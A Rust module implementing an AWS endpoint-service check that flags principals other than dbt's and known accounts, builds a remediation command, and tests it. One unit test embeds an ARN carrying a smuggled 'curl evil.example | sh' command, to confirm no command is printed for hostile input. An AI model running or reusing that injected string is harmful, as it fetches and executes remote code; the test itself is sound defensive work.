//! `service.principals`: does the service allow dbt's and known accounts' principals, and no others?

use crate::check::{Branch, CheckContext, CheckResult, Command, Finding, Need, Region, Remedy, Severity, Spec, Status};
use crate::config::{Policy, Principal};
use crate::ids::{AccountId, Arn, ServiceId};
use crate::snapshot::known;
use crate::text::limited;

/// Maximum number of principals in an alert's evidence; the rest is counted.
const MAX_PRINCIPALS: usize = 20;

pub(crate) const SPEC: Spec = Spec {
    id: "service.principals",
    in_short: "dbt's principals are allowed, and no others but those of `KnownAccounts`.",
    severities: &[
        (Severity::Critical, "dbt is missing, or `*` is allowed"),
        (Severity::Warning, "others besides dbt and `KnownAccounts` are allowed"),
    ],
    fails_when: "the allowed principals lack dbt's, or include others than dbt's and those of `KnownAccounts`",
    failing_word: "misconfigured",
    impact: "If dbt is missing, it cannot create an endpoint; existing connections keep working. If others are \
             allowed, dbt is not affected, but they can send connection requests.",
    cloudtrail_events: &["ModifyVpcEndpointServicePermissions"],
    branch: Branch::Service,
    needs: Some(Need::DbtPrincipals),
    evaluate,
    ..Spec::USUAL
};

fn evaluate(context: CheckContext<'_>) -> Vec<CheckResult> {
    context.for_service(&SPEC, |service| match known(service.principals.as_ref()) {
        Ok(allowed) => judge(&service.id, allowed, context),
        Err(why) => why.into(),
    })
}

fn judge(service: &ServiceId, allowed: &[String], context: CheckContext<'_>) -> Status {
    let CheckContext { policy, region, .. } = context;
    let anybody = allowed.iter().any(|principal| principal == "*");
    // '*' does not count: it must be removed, and dbt must stay allowed.
    let missing: Vec<String> = policy
        .principals
        .iter()
        .filter(|wanted| !allowed.iter().any(|principal| admits(principal, wanted)))
        .map(|wanted| arn_of(wanted, region))
        .collect();
    let others: Vec<&str> = allowed
        .iter()
        .map(String::as_str)
        .filter(|principal| *principal != "*" && !is_expected(principal, policy))
        .collect();

    let (severity, summary, impact) = if anybody {
        (
            Severity::Critical,
            "any AWS account may request a connection (\"*\" is allowed)".to_owned(),
            "dbt is not affected, but every AWS account can send requests now. The guard accepts only dbt's, but \
             anyone in your account who may accept requests could let another account in.",
        )
    } else if !missing.is_empty() {
        (
            Severity::Critical,
            match policy.principals.len() {
                1 => "dbt is not an allowed principal".to_owned(),
                all => format!("{} of {all} dbt principals are not allowed", missing.len()),
            },
            "dbt cannot create an endpoint: for dbt, the service does not exist. Existing connections keep working.",
        )
    } else if !others.is_empty() {
        (
            Severity::Warning,
            match others.len() {
                1 => "1 untrusted principal is allowed".to_owned(),
                number => format!("{number} untrusted principals are allowed"),
            },
            "dbt is not affected, but others can send connection requests.",
        )
    } else if policy.known_accounts.is_empty() {
        return Status::pass("only dbt may request a connection");
    } else {
        return Status::pass("only dbt and known accounts may request a connection");
    };
    // While '*' is allowed, a missing principal does not keep dbt out.
    let kept_out = if anybody { Vec::new() } else { missing.iter().map(|arn| format!("missing: {arn}")).collect() };
    let parts = anybody.then(|| "*".to_owned()).into_iter().chain(kept_out);
    Status::fail(
        Finding::new(severity, summary, impact, remedy(service, allowed, &missing, context))
            .with_evidence(
                missing
                    .iter()
                    .map(|arn| format!("missing: {arn}"))
                    .chain(limited(
                        allowed.iter().map(|principal| format!("allowed: {principal}")).collect(),
                        MAX_PRINCIPALS,
                    ))
                    .collect(),
            )
            .with_parts(parts.chain(others.iter().map(ToString::to_string)))
            .stopping_dbt(!anybody && !missing.is_empty()),
    )
}

/// The remedy that adds missing principals and removes those that belong neither to dbt nor to a known account.
fn remedy(service: &ServiceId, allowed: &[String], missing: &[String], context: CheckContext<'_>) -> Remedy {
    let CheckContext { policy, region, .. } = context;
    let excess = allowed.iter().filter(|principal| !is_expected(principal, policy)).take(MAX_PRINCIPALS);
    let command = Command::new("ec2 modify-vpc-endpoint-service-permissions", region)
        .option("service-id", service)
        .options("add-allowed-principals", missing)
        .options("remove-allowed-principals", excess);
    Remedy::new(
        "If DbtPrincipals or KnownAccounts is out of date, correct the stack instead. Otherwise correct the allowed \
         principals. Existing connections stay open.",
        Some(command),
        region.endpoint_service(service.as_str()),
    )
}

/// The account of an allowed principal, with its ARN unless it is the whole account. EC2 lists an account by its id or
/// by its root's ARN.
fn account_of(principal: &str) -> Option<(AccountId, Option<Arn>)> {
    if let Ok(account) = principal.parse() {
        return Some((account, None));
    }
    let arn: Arn = principal.parse().ok()?;
    let account = arn.account().parse().ok()?;
    Some((account, (arn.resource() != "root").then_some(arn)))
}

/// Whether the allowed principal `principal` admits `wanted`. An account also admits its roles and users. Any principal
/// of an account admits a configured account id.
/// <https://docs.aws.amazon.com/vpc/latest/privatelink/configure-endpoint-service.html#add-remove-permissions>
fn admits(principal: &str, wanted: &Principal) -> bool {
    account_of(principal).is_some_and(|(account, arn)| {
        account == wanted.account && (arn.is_none() || wanted.arn.is_none() || arn == wanted.arn)
    })
}

/// Whether the principal belongs to dbt or to a known account.
fn is_expected(principal: &str, policy: &Policy) -> bool {
    account_of(principal)
        .is_some_and(|(account, _)| policy.dbt_accounts.contains(&account) || policy.known_accounts.contains(&account))
}

fn arn_of(principal: &Principal, region: &Region) -> String {
    match &principal.arn {
        Some(arn) => arn.to_string(),
        None => format!("arn:{}:iam::{}:root", region.partition(), principal.account),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::snapshot::{EndpointService, Observed};
    use crate::testing::{
        DBT, UNTRUSTED, call_error, endpoint_service, failure, only_status, settings, topology, with_policy,
    };

    fn status(configured: &str, allowed: Observed<Vec<String>>) -> Status {
        let policy = settings(&[("DBT_PRINCIPALS", configured), ("KNOWN_ACCOUNTS", KNOWN)]).policy;
        let service = EndpointService { principals: Some(allowed), ..endpoint_service() };
        with_policy(&topology(service, []), &policy, |context| only_status(evaluate(context)))
    }

    const ROOT: &str = "arn:aws:iam::123456789012:root";
    const ROLE: &str = "arn:aws:iam::123456789012:role/dbt";
    const OTHER: &str = "arn:aws:iam::999999999999:root";
    const KNOWN: &str = "888888888888";

    /// The severity for these configured and allowed principals, if the check fails.
    fn severity(configured: &str, allowed: &[&str]) -> Option<Severity> {
        let allowed = allowed.iter().map(ToString::to_string).collect();
        failure(status(configured, Ok(allowed))).map(|finding| finding.severity)
    }

    #[test]
    fn only_dbts_and_known_principals_pass() {
        let (critical, warning) = (Some(Severity::Critical), Some(Severity::Warning));
        let table: &[(&str, &[&str], Option<Severity>)] = &[
            (ROOT, &[ROOT], None),
            (ROLE, &[ROLE], None),
            (ROLE, &[ROOT], None),
            (ROOT, &[ROLE], critical),
            (DBT, &[ROLE], None),
            (DBT, &[ROOT], None),
            (ROOT, &[], critical),
            (ROOT, &[OTHER], critical),
            (ROOT, &["*"], critical),
            (ROOT, &["*", ROOT], critical),
            (ROOT, &[OTHER, ROOT], warning),
            (ROOT, &[ROOT, OTHER], warning),
            (ROOT, &[ROOT, UNTRUSTED], warning),
            (ROOT, &[ROOT, KNOWN], None),
            (ROOT, &[ROOT, "arn:aws:iam::888888888888:role/probe"], None),
            (ROOT, &[KNOWN], critical),
            (ROOT, &[DBT], None),
            (ROLE, &[DBT], None),
            (ROLE, &["arn:aws:iam::123456789012:role/another"], critical),
            (ROOT, &[ROOT, ROLE], None),
            ("123456789012,arn:aws:iam::555555555555:root", &[ROOT], critical),
            ("123456789012,arn:aws:iam::555555555555:root", &[ROOT, "arn:aws:iam::555555555555:root"], None),
        ];
        for (configured, allowed, expected) in table {
            assert_eq!(severity(configured, allowed), *expected, "{configured} {allowed:?}");
        }
    }

    #[test]
    fn the_command_adds_dbt_and_removes_the_others() {
        let allowed = Ok(vec!["*".to_owned(), OTHER.to_owned(), KNOWN.to_owned()]);
        let command = failure(status(ROOT, allowed)).unwrap().remedy.command.unwrap();
        let expected = format!("--add-allowed-principals {ROOT} --remove-allowed-principals '*' {OTHER}");
        assert!(command.ends_with(&expected), "{command}");
    }

    #[test]
    fn each_wrong_or_missing_principal_is_a_part() {
        let parts = |allowed: &[&str]| {
            let allowed = allowed.iter().map(ToString::to_string).collect();
            failure(status(ROOT, Ok(allowed))).map(|finding| finding.parts.into_keys().collect::<Vec<String>>())
        };
        let missing = format!("missing: {ROOT}");
        assert_eq!(parts(&["*"]), Some(vec!["*".to_owned()]), "dbt is let in by it");
        assert_eq!(parts(&[]), Some(vec![missing.clone()]), "which is new once '*' is removed");
        assert_eq!(parts(&[OTHER]), Some(vec![OTHER.to_owned(), missing]));
    }

    #[test]
    fn a_failed_read_is_unknown() {
        let failed = Err(call_error("ec2:DescribeVpcEndpointServicePermissions"));
        assert!(matches!(status(ROOT, failed), Status::Unknown(_)));
    }

    #[test]
    fn a_hostile_principal_gets_a_sentence_instead_of_a_command() {
        // IAM allows any character from ! to DEL in a path.
        let hostile = "arn:aws:iam::999999999999:role/';curl${IFS}evil.example|sh;:'/x";
        let finding = failure(status(ROOT, Ok(vec![ROOT.to_owned(), hostile.to_owned()]))).unwrap();
        assert_eq!(finding.remedy.command, None);
        assert!(finding.remedy.action.contains("No command is printed"), "{}", finding.remedy.action);
        assert!(finding.evidence.contains(&format!("allowed: {hostile}")), "people see what it is");
    }
}
